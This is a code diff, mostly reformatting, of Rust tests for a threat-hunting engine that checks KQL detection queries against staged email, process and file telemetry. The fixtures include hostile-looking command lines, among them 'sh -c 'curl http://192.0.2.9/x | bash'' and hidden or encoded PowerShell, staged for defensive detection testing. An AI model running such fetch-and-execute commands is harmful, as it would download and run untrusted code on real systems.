@@ -10,21 +10,36 @@ use crate::staged::{HOUR, SECOND, Staged};
 
 fn document(name: &str) -> Option<String> {
     let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/seeds");
-    let entry = fs::read_dir(folder).ok()?.flatten().find(|entry| entry.file_name().to_string_lossy().starts_with(name))?;
+    let entry = fs::read_dir(folder)
+        .ok()?
+        .flatten()
+        .find(|entry| entry.file_name().to_string_lossy().starts_with(name))?;
     fs::read_to_string(entry.path()).ok()
 }
 
 /// The KQL fences of a document, in order.
 fn fences(text: &str) -> Vec<String> {
-    text.split("```kql\n").skip(1).filter_map(|rest| rest.split("\n```").next()).map(str::to_owned).collect()
+    text.split("```kql\n")
+        .skip(1)
+        .filter_map(|rest| rest.split("\n```").next())
+        .map(str::to_owned)
+        .collect()
 }
 
 fn column(result: &HuntResult, name: &str) -> Vec<String> {
-    let at = result.columns.iter().position(|column| column.name == name).unwrap();
+    let at = result
+        .columns
+        .iter()
+        .position(|column| column.name == name)
+        .unwrap();
     let mut values: Vec<String> = result
         .rows()
         .into_iter()
-        .map(|row| row[at].as_str().map_or_else(|| row[at].to_string(), str::to_owned))
+        .map(|row| {
+            row[at]
+                .as_str()
+                .map_or_else(|| row[at].to_string(), str::to_owned)
+        })
         .collect();
     values.sort();
     values
@@ -32,7 +47,11 @@ fn column(result: &HuntResult, name: &str) -> Vec<String> {
 
 fn mail() -> Staged {
     let mut staged = Staged::new();
-    for (id, direction, action) in [("m1", "Inbound", "Delivered"), ("m2", "Outbound", "Delivered"), ("m3", "Inbound", "Blocked")] {
+    for (id, direction, action) in [
+        ("m1", "Inbound", "Delivered"),
+        ("m2", "Outbound", "Delivered"),
+        ("m3", "Inbound", "Blocked"),
+    ] {
         staged.row(
             "EmailEvents",
             26 * HOUR,
@@ -49,7 +68,11 @@ fn mail() -> Staged {
         staged.row(
             "EmailUrlInfo",
             26 * HOUR,
-            &[("NetworkMessageId", id), ("Url", "https://login.example.net/a"), ("UrlDomain", "login.example.net")],
+            &[
+                ("NetworkMessageId", id),
+                ("Url", "https://login.example.net/a"),
+                ("UrlDomain", "login.example.net"),
+            ],
         );
         staged.row(
             "UrlClickEvents",
@@ -67,23 +90,60 @@ fn mail() -> Staged {
             26 * HOUR,
             &[
                 ("NetworkMessageId", id),
-                ("RecipientEmailAddress", if id == "m1" { "ada@example.com" } else { "other@example.com" }),
+                (
+                    "RecipientEmailAddress",
+                    if id == "m1" {
+                        "ada@example.com"
+                    } else {
+                        "other@example.com"
+                    },
+                ),
                 ("FileName", "invoice.docm"),
                 ("SHA256", "00"),
             ],
         );
     }
     // Within a minute of the click, after more than a minute, and before it.
-    staged.process(25 * HOUR - 20 * SECOND, "MSEDGE.EXE", "powershell.exe", "powershell -enc A");
-    staged.process(25 * HOUR - 90 * SECOND, "msedge.exe", "powershell.exe", "powershell late");
-    staged.process(25 * HOUR + 20 * SECOND, "msedge.exe", "powershell.exe", "powershell early");
-    staged.process(25 * HOUR - 20 * SECOND, "explorer.exe", "powershell.exe", "powershell by hand");
+    staged.process(
+        25 * HOUR - 20 * SECOND,
+        "MSEDGE.EXE",
+        "powershell.exe",
+        "powershell -enc A",
+    );
+    staged.process(
+        25 * HOUR - 90 * SECOND,
+        "msedge.exe",
+        "powershell.exe",
+        "powershell late",
+    );
+    staged.process(
+        25 * HOUR + 20 * SECOND,
+        "msedge.exe",
+        "powershell.exe",
+        "powershell early",
+    );
+    staged.process(
+        25 * HOUR - 20 * SECOND,
+        "explorer.exe",
+        "powershell.exe",
+        "powershell by hand",
+    );
     // Attachment, Office and installer.
     staged.process(24 * HOUR, "WINWORD.EXE", "cmd.exe", "cmd /c word");
     staged.process(24 * HOUR, "winword.exe", "splwow64.exe", "splwow64");
     staged.process(24 * HOUR, "setup.exe", "rundll32.exe", "rundll32 x");
-    staged.process(9 * 24 * HOUR, "setup.exe", "rundll32.exe", "rundll32 too old");
-    staged.process(24 * HOUR, "mysetup.exe", "rundll32.exe", "rundll32 other name");
+    staged.process(
+        9 * 24 * HOUR,
+        "setup.exe",
+        "rundll32.exe",
+        "rundll32 too old",
+    );
+    staged.process(
+        24 * HOUR,
+        "mysetup.exe",
+        "rundll32.exe",
+        "rundll32 other name",
+    );
     staged
 }
 
@@ -95,13 +155,18 @@ fn the_briefs_hunts_find_what_is_staged_and_nothing_else() {
     };
     let queries = fences(&text);
     assert_eq!(queries.len(), 4);
-    let hunt = mail().hunt();
+    let mut staged = mail();
+    let hunt = staged.hunt();
     let run = |index: usize| hunt.run(Language::Kql, &queries[index]).unwrap();
 
     let clicks = run(0);
     assert_eq!(column(&clicks, "ProcessCommandLine"), ["powershell -enc A"]);
     assert_eq!(column(&clicks, "DelaySec"), ["20"]);
-    assert!(clicks.warnings.iter().any(|warning| warning.message.contains("`UrlClickEvents` has no column `AccountName`")));
+    assert!(clicks.warnings.iter().any(|warning| {
+        warning
+            .message
+            .contains("`UrlClickEvents` has no column `AccountName`")
+    }));
     assert_eq!(column(&run(1), "ProcessCommandLine"), ["cmd /c word"]);
     assert_eq!(column(&run(2), "ProcessCommandLine"), ["cmd /c word"]);
     assert_eq!(column(&run(3), "ProcessCommandLine"), ["rundll32 x"]);
@@ -110,7 +175,12 @@ fn the_briefs_hunts_find_what_is_staged_and_nothing_else() {
 fn supply_chain() -> Staged {
     let mut staged = Staged::new();
     staged.process(HOUR, "npm.cmd", "powershell.exe", "powershell -w hidden");
-    staged.process(HOUR, "python3", "sh", "sh -c 'curl http://192.0.2.9/x | bash'");
+    staged.process(
+        HOUR,
+        "python3",
+        "sh",
+        "sh -c 'curl http://192.0.2.9/x | bash'",
+    );
     // No term of the lists: a compiler, and names that only contain one.
     staged.process(HOUR, "npm", "cc1plus", "cc1plus a.cc");
     staged.process(HOUR, "pnpmx", "powershell.exe", "powershell");
@@ -138,11 +208,26 @@ fn supply_chain() -> Staged {
         staged.row(
             "DeviceFileEvents",
             HOUR,
-            &[("DeviceName", "dev03"), ("FolderPath", path), ("FileName", name), ("ActionType", action)],
+            &[
+                ("DeviceName", "dev03"),
+                ("FolderPath", path),
+                ("FileName", name),
+                ("ActionType", action),
+            ],
         );
     };
-    file(&mut staged, "/src/.github/workflows/ci.yml", "ci.yml", "FileModified");
-    file(&mut staged, "/src/.github/workflows/ci.yml", "ci.yml", "FileDeleted");
+    file(
+        &mut staged,
+        "/src/.github/workflows/ci.yml",
+        "ci.yml",
+        "FileModified",
+    );
+    file(
+        &mut staged,
+        "/src/.github/workflows/ci.yml",
+        "ci.yml",
+        "FileDeleted",
+    );
     file(&mut staged, "/src/notes.txt", "notes.txt", "FileModified");
     staged
 }
@@ -153,7 +238,13 @@ fn the_techniques_hunt_finds_its_three_arms_and_nothing_else() {
         eprintln!("the document is not beside the checkout; its imitations are tested");
         return;
     };
-    let query = text.split("\nkusto\n").nth(1).unwrap().split("\nhigh severity").next().unwrap();
+    let query = text
+        .split("\nkusto\n")
+        .nth(1)
+        .unwrap()
+        .split("\nhigh severity")
+        .next()
+        .unwrap();
     let result = supply_chain().hunt().run(Language::Kql, query).unwrap();
     assert_eq!(
         column(&result, "DetectionArm"),
@@ -166,7 +257,12 @@ fn the_techniques_hunt_finds_its_three_arms_and_nothing_else() {
     );
     assert_eq!(
         column(&result, "ProcessCommandLine"),
-        ["", "collect.example.net", "powershell -w hidden", "sh -c 'curl http://192.0.2.9/x | bash'"]
+        [
+            "",
+            "collect.example.net",
+            "powershell -w hidden",
+            "sh -c 'curl http://192.0.2.9/x | bash'"
+        ]
     );
 }
 
